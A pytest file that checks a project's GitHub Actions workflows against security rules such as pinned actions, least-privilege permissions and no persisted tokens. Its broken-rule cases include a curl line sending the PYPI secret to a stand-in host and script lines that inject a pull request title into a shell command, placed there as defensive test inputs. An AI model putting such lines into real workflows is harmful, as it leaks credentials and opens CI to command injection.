"""GitHub workflows can do no harm, and run what the Makefile has on every Python that is supported."""

from __future__ import annotations

import re
import tomllib
from typing import TYPE_CHECKING, Any

import pytest
import yaml

from tests.unit.ci.workflows import FILES, GITHUB, faults, pins, scripts

if TYPE_CHECKING:
    from pathlib import Path

ROOT = GITHUB.parent
COMMIT = "0123456789abcdef0123456789abcdef01234567"
SOUND = f"""
on:
  push: {{branches: [main]}}
  pull_request:
permissions: {{}}
concurrency: {{group: x}}
jobs:
  one:
    runs-on: ubuntu-24.04
    timeout-minutes: 5
    permissions: {{contents: read}}
    steps:
      - uses: actions/checkout@{COMMIT} # v1.2.3
        with: {{persist-credentials: false}}
      - run: make check
"""


def text_of(file: Path) -> str:
    return file.read_text(encoding="utf-8")


@pytest.mark.parametrize("file", FILES, ids=[file.name for file in FILES])
def test_a_workflow_keeps_the_rules(file: Path) -> None:
    assert faults(text_of(file)) == []


def test_there_is_a_workflow_for_each_habit() -> None:
    assert {file.stem for file in FILES} == {"check", "page", "image", "release"}


@pytest.mark.parametrize(
    ("sound", "broken", "said"),
    [
        ("  pull_request:", "  pull_request_target:", "is started by pull_request_target"),
        ("permissions: {}\n", "", "does not begin with no permission at all"),
        ("permissions: {}\n", "permissions: read-all\n", "does not begin with no permission at all"),
        ("concurrency: {group: x}\n", "", "may run twice at once"),
        ("{contents: read}", "write-all", "one: does not name its permissions"),
        ("{contents: read}", "{contents: write}", "one: may write for a pull request"),
        ("ubuntu-24.04", "ubuntu-latest", "one: runs on ubuntu-latest"),
        ("    timeout-minutes: 5\n", "", "one: has no time limit"),
        (f"@{COMMIT} # v1.2.3", "@v1.2.3 # v1.2.3", "one: uses actions/checkout@v1.2.3, which may change"),
        (" # v1.2.3", "", f"pins actions/checkout@{COMMIT} without naming its version"),
        ("persist-credentials: false", "fetch-depth: 1", "one: leaves the token in the checkout"),
        ("make check", "make ${{ github.event.pull_request.title }}", "one: puts an expression into a script"),
        ("make check", "make ${{ inputs.goal }}", "one: puts an expression into a script"),
        ("make check", "curl https://example.com/${{ secrets.PYPI }}", "is given the secret PYPI"),
        ("    runs-on:", "    secrets: inherit\n    runs-on:", "one: is given every secret"),
    ],
)
def test_a_broken_rule_is_told(sound: str, broken: str, said: str) -> None:
    assert faults(SOUND) == []
    assert sound in SOUND
    assert any(fault.startswith(said) for fault in faults(SOUND.replace(sound, broken)))


def test_an_action_is_the_same_commit_everywhere() -> None:
    """Dependabot moves all of them together, and so must a hand."""
    used: dict[str, set[tuple[str, str]]] = {}
    for file in FILES:
        for action, pin in pins(text_of(file)).items():
            used.setdefault(action, set()).add(pin)
    assert len(used) >= 9
    assert {action: pin for action, pin in used.items() if len(pin) > 1} == {}


def test_only_what_publishes_may_write() -> None:
    writing = {
        (file.stem, name)
        for file in FILES
        for name, job in yaml.safe_load(text_of(file))["jobs"].items()
        if "write" in job["permissions"].values()
    }
    assert writing == {("image", "publish"), ("release", "image"), ("release", "release")}


def test_an_image_is_pushed_for_both_architectures_with_sbom_and_provenance_and_never_for_a_pull_request() -> None:
    jobs = yaml.safe_load(text_of(GITHUB / "workflows" / "image.yaml"))["jobs"]
    built = {name: _inputs(job, "docker/build-push-action") for name, job in jobs.items()}
    assert {name: inputs["push"] for name, inputs in built.items()} == {"try": False, "publish": True}
    assert {inputs["platforms"] for inputs in built.values()} == {"linux/amd64,linux/arm64"}
    assert {(inputs["context"], inputs["file"]) for inputs in built.values()} == {(".", "deploy/Dockerfile")}
    assert (built["publish"]["sbom"], built["publish"]["provenance"]) == (True, "mode=max")
    assert _inputs(jobs["publish"], "actions/attest-build-provenance")["push-to-registry"] is True


def test_nothing_is_released_unless_the_checks_pass() -> None:
    jobs = yaml.safe_load(text_of(GITHUB / "workflows" / "release.yaml"))["jobs"]
    assert jobs["check"]["uses"] == "./.github/workflows/check.yaml"
    assert {name for name, job in jobs.items() if {"dist", "check"} <= {*job.get("needs", [])}} == {"image", "release"}


def test_tests_run_on_every_python_from_the_oldest_that_is_supported() -> None:
    jobs = yaml.safe_load(text_of(GITHUB / "workflows" / "check.yaml"))["jobs"]
    oldest = tomllib.loads(text_of(ROOT / "pyproject.toml"))["project"]["requires-python"].removeprefix(">=")
    tried = jobs["test"]["strategy"]["matrix"]["python"]
    assert tried == [f"3.{minor}" for minor in range(int(oldest.partition(".")[2]), 15)]


def test_what_is_made_can_be_made() -> None:
    """By the workflows, and by whoever reads CONTRIBUTING.md."""
    told = [*(script for file in FILES for script in scripts(text_of(file))), text_of(ROOT / "CONTRIBUTING.md")]
    goals = {goal for text in told for goal in re.findall(r"(?:^|\s|`)make ([\w./-]+)(?=[`\s]|$)", text)}
    targets = set(re.findall(r"(?m)^([\w./-]+):(?!=)", text_of(ROOT / "Makefile")))
    assert goals >= {"check", "test", "page", "bench", "soak", "lock", ".venv/ready"}
    assert goals - targets == set()


def test_updates_are_looked_for_wherever_something_is_pinned() -> None:
    updates = yaml.safe_load(text_of(GITHUB / "dependabot.yml"))["updates"]
    looked = {
        (update["package-ecosystem"], folder.strip("/"))
        for update in updates
        for folder in update.get("directories", [update.get("directory")])
    }
    pinned = {
        ("github-actions", "", ".github/workflows"),
        ("pip", "", "pyproject.toml"),
        ("pip", "requirements", "requirements/run.txt"),
        ("docker", "deploy", "deploy/Dockerfile"),
        ("npm", "tests/browser", "tests/browser/package-lock.json"),
    }
    assert looked == {(ecosystem, folder) for ecosystem, folder, _ in pinned}
    assert [what for _, _, what in sorted(pinned) if not (ROOT / what).exists()] == []
    assert all(update["cooldown"]["default-days"] >= 7 for update in updates)


def _inputs(job: dict[str, Any], action: str) -> dict[str, Any]:
    (step,) = [step for step in job["steps"] if step.get("uses", "").startswith(f"{action}@")]
    return dict(step["with"])
